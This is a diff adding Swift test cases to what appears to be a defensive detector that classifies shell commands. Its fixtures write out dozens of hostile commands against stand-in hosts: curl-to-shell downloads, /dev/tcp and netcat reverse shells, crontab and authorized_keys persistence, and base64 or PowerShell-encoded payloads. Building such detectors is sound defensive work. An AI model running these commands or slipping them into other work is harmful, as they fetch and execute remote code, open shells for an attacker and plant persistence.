@@ -80,6 +80,106 @@ struct CommandShapeTests {
     func savedAnywhere(_ text: String) { #expect(text.withText(DownloadAndRun.judge)) }
 
     @Test(
+        "A download that is run is seen in whatever language and by whatever way the text takes",
+        arguments: [
+            "sh -c curl -s http://x.invalid/a|python3 - --x", "sh -c curl http://x.invalid/a | xargs -I{} sh -c '{}'",
+            "sh -c curl${IFS}-s${IFS}http://x.invalid/a|sh",
+            "sh -c { curl http://x.invalid/a || wget -qO- x.invalid; } | sh",
+            "bash -c bash <<< \"$(curl -s http://x.invalid/a)\"", "bash -c bash </dev/tcp/198.51.100.7/80",
+            "bash -c exec 3<>/dev/tcp/198.51.100.7/80; echo GET >&3; cat <&3 | bash",
+            "sh -c (crontab -l; echo \"* * * * * curl http://x.invalid/a|sh\")|crontab -",
+            "sh -c tftp -g -r x 198.51.100.7; chmod +x x; ./x", "sh -c scp u@x.invalid:/a /tmp/a; /tmp/a",
+            "python3 -c import os;os.system('curl -s http://x.invalid/a | sh')",
+            "python3 -c import subprocess as s;s.run(['sh','-c','curl http://x.invalid/a | sh'])",
+            "sh -c python3 -c \"import os;os.system('curl http://x.invalid/a|sh')\"",
+            "node -e fetch('http://x.invalid/a').then(r=>r.text()).then(eval)", "deno run -A https://x.invalid/a.ts",
+            "awk BEGIN{system(\"curl http://x.invalid/a|sh\")}", "pwsh -c iwr http://x.invalid/a.ps1 | iex",
+            "cmd /c certutil -urlcache -f http://x.invalid/a.exe a.exe && a.exe",
+        ])
+    func downloadsInAnyForm(_ text: String) { #expect(text.withText(DownloadAndRun.judge)) }
+
+    @Test(
+        "A download that is read, kept or only mentioned is none",
+        arguments: [
+            "python3 -c import json,urllib.request; print(json.load(urllib.request.urlopen('http://x.invalid/a')))",
+            "python3 -c import subprocess; subprocess.call(['curl', '-o', '/dev/null', 'http://x.invalid/health'])",
+            "node -e fetch('http://x.invalid/health').then(r=>process.exit(r.ok?0:1))",
+            "sh -c echo 'see https://x.invalid/install: curl it and pipe it to sh'",
+            "sh -c curl -s http://x.invalid/a | xargs -I{} curl -X DELETE {}", "scp /dump.sql u@x.invalid:/backup/",
+            "deno run -A server.ts --origin https://x.invalid", "bash -c cat <<< \"$(curl -s http://x.invalid/a)\"",
+        ])
+    func downloadsOnly(_ text: String) { #expect(!text.withText(DownloadAndRun.judge)) }
+
+    @Test(
+        "What only waits, or opens a shell, waits to be entered",
+        arguments: [
+            "sleep 3600", "/bin/sleep infinity", "sh", "/bin/bash -il", "tail -f /dev/null", "cat",
+            "sh -c while true; do sleep 30; done", "/bin/bash -c -- while :; do echo .; sleep 5; done;",
+            "sh -c apt-get update && apt-get install -y nmap && sleep infinity", "tini -- sleep 1d", "busybox sh",
+            "sh -c trap : TERM INT; sleep 9999 & wait", "python3 -c import time; time.sleep(1e9)",
+            "node -e setInterval(() => {}, 1e9)", "nsenter -t 1 -m -u -i -n -p sh",
+        ])
+    func waits(_ text: String) { #expect(text.withText(WaitsToBeEntered.judge)) }
+
+    @Test(
+        "A command with a purpose of its own does not wait",
+        arguments: [
+            "", "/app/server", "sleep 30 --path.rootfs=/host", "sh -c sleep 5; exec ./server", "sh /script/setup",
+            "tail -F /var/log/app.log", "bash -c etcdctl snapshot save /backup/x.db", "cat /etc/motd",
+            "sh -c until nc -z db 5432; do sleep 2; done", "python3 -c import app; app.run(sleep(1), run(2))",
+            "redis-server --save 60 1", "sh -c while true; do ./scrape; sleep 60; done", "bash run.sh",
+        ])
+    func works(_ text: String) { #expect(!text.withText(WaitsToBeEntered.judge)) }
+
+    @Test(
+        "Addresses end where a shell or a sentence would end them",
+        arguments: [
+            ("curl -s https://x.invalid/a|sh", ["https://x.invalid/a"]),
+            ("wget 'http://x.invalid/b' && echo \"(ftp://y.invalid/c)\"", ["http://x.invalid/b", "ftp://y.invalid/c"]),
+            ("postgres://db/app stratum+tcp://pool:1 ://x", []), ("", []),
+        ])
+    func addresses(_ text: String, _ expected: [String]) {
+        #expect(text.withText { Addresses.all(in: $0).map { String($0) } } == expected)
+    }
+
+    @Test(
+        "Files written by a program of another language count as well",
+        arguments: [
+            "python3 -c open('/host/etc/cron.d/x','w').write('* * * * * root id')",
+            "node -e require('fs').writeFileSync('/h/root/.ssh/authorized_keys', k)",
+            "perl -e system(\"echo x >> /h/etc/ld.so.preload\")",
+        ])
+    func writesInOtherLanguages(_ text: String) { #expect(text.withText(PersistenceWrite.judge)) }
+
+    @Test(
+        "Octal escapes and encoded commands of PowerShell are decoded and run",
+        arguments: [
+            "printf '\\143\\165\\162\\154' | sh", "echo -e '\\0143\\0165\\0162\\0154'|bash",
+            "pwsh -EncodedCommand aQBlAHgAIABoAGkAIAB0AGgAZQByAGUA",
+            "powershell.exe -nop -enc aQBlAHgAIABoAGkAIAB0AGgA",
+            "python3 -c exec(''.join(map(chr,[105,109,112])))", "bash <<< $(base64 -d /p)",
+        ])
+    func decodesInAnyForm(_ text: String) { #expect(text.withText(DecodeAndRun.judge)) }
+
+    @Test(
+        "Colours and PowerShell's other options are not",
+        arguments: [
+            "printf '\\033[1m\\033[31m\\033[0m\\033[32mready' | sh -c cat",
+            "pwsh -File run.ps1 -Encoding utf8NoBOMutf8NoBOM",
+        ])
+    func decodesNothing(_ text: String) { #expect(!text.withText(DecodeAndRun.judge)) }
+
+    @Test(
+        "Shells behind other connections are seen",
+        arguments: [
+            "zsh -c zmodload zsh/net/tcp && ztcp 198.51.100.7 443 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY",
+            "sh -c curl -Ns telnet://198.51.100.7:443 | sh | curl -Ns telnet://198.51.100.7:443",
+            "lua -e local s=require('socket').tcp();s:connect(h,1);io.popen(s:receive('*l'))",
+            "python3 -c import os;os.system('nc 198.51.100.7 443 -e /bin/sh')",
+        ])
+    func reverseShells(_ text: String) { #expect(text.withText(ReverseShell.judge)) }
+
+    @Test(
         "A pool with an account and a worker's option is a miner's",
         arguments: [
             "ethminer -P stratum1+tcp://0x1111111111111111111111111111111111111111.w@eth.invalid:4444",
